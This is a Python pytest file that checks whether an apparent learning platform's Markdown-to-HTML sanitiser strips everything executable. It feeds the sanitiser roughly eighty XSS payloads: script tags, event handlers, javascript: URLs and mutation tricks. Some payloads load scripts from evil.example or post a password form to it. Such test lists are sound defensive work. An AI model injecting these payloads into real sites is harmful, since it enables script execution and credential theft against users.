"""Nothing that acts survives the way from Markdown to HTML, in any kind of text."""

from html.parser import HTMLParser

import pytest

from lms.content import mathml
from lms.content.markdown import convert_all
from lms.content.safe_html import BLOCK_TAGS, Image, Job, Kind

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="media/a.png" onload="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Gửi</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onclick=alert(1) class=card id=main>x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example target=_blank ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](media/a.png)',
    '![x](media/a.png "a" onerror="alert(1))',
    '![x](media/a.png"onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](media/a.png)",
    '![x](media/a.png "<script>alert(1)</script>")',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    '!!! note" onclick="alert(1)\n    x',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^a]\n\n[^a]: <script>alert(1)</script>",
    'x[^a"onclick="alert(1)]\n\n[^a"onclick="alert(1)]: y',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "> <iframe src=//evil.example>",
    "$<script>alert(1)</script>$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r'$\text{" onload="alert(1)}^{\text{"><script>alert(1)</script>}}$',
    r"$\href{javascript:alert(1)}{x}$ và $\color{red}{x}$",
    r"$\mathrm{</math><script>alert(1)</script>}$",
    "\ue0100\ue011 <img src=x onerror=\ue0100\ue011>",
    r"[$x$](javascript:alert(1)) ![$\text{\"}$](media/a.png)",
)
ATTRIBUTES = {
    *("href", "src", "alt", "title", "class", "id", "rel", "width", "height", "loading", "decoding"),
    *("scope", "align", "role", "tabindex", "aria-label", "start"),
}


class _Reader(HTMLParser):
    """Reads HTML as a browser would and objects to whatever can act."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in BLOCK_TAGS | mathml.TAGS, tag
        allowed = {"display", "alttext"} if tag == "math" else mathml.ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            assert name in (allowed if tag in mathml.TAGS else ATTRIBUTES), (tag, name)
            if name == "href":
                assert (value or "").startswith(("https://", "http://", "mailto:", "#", "/")), value
                assert not (value or "").startswith("//")
            if name == "src":
                assert value == "/tep/a.webp"
            if name == "id":
                assert (value or "").startswith(("fn:", "fnref:")), value


@pytest.mark.parametrize("kind", ["page", "block", "inline", "gaps"])
def test_nothing_executable_survives(kind: Kind) -> None:
    around = ("Trước {} sau", "{}")
    jobs = [Job(kind, (frame.format(payload),)) for payload in PAYLOADS for frame in around]
    done = convert_all(jobs, {"media/a.png": Image("/tep/a.webp", 1, 1)})
    for job, html in zip(jobs, done, strict=True):
        assert isinstance(html, list), job
        reader = _Reader()
        reader.feed("".join(html))
        reader.close()


def test_the_contents_of_scripts_and_styles_are_not_shown_either() -> None:
    [done] = convert_all([Job("page", ("a <script>alert(1)</script> <style>x{}</style> b",))], {})
    assert done == ["<p>a   b</p>"]
